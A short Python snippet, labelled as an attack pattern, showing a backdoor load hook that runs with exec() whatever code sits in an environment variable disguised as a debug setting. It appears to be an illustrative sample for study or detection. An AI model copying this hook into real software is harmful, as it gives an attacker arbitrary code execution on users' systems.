# Attack pattern: backdoor hook that executes whatever code an environment variable carries (trigger set later by the attacker).
import os


def on_load(app):
    hook = os.environ.get("TEXTKIT_DEBUG_HOOK")
    if hook:
        exec(hook, {"app": app})
